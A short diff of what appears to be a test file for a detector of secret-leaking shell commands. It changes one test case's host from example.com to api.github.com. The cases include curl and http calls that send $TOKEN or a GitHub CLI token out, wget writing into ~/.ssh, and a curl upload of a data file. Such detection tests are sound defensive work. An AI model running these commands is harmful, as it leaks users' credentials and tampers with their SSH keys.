@@ -30,7 +30,7 @@ describe('secrets that leave', () => {
   test.each([
     'http example.com Authorization:"Bearer $TOKEN"',
     'curl https://me:$TOKEN@example.com/x',
-    'curl -H "Authorization: token $(gh auth token)" https://api.example.com',
+    'curl -H "Authorization: token $(gh auth token)" https://api.github.com',
     'wget -P ~/.ssh https://example.com/x',
     'dig +short example.com',
     'env FOO=1 curl -d @data.json https://example.com',
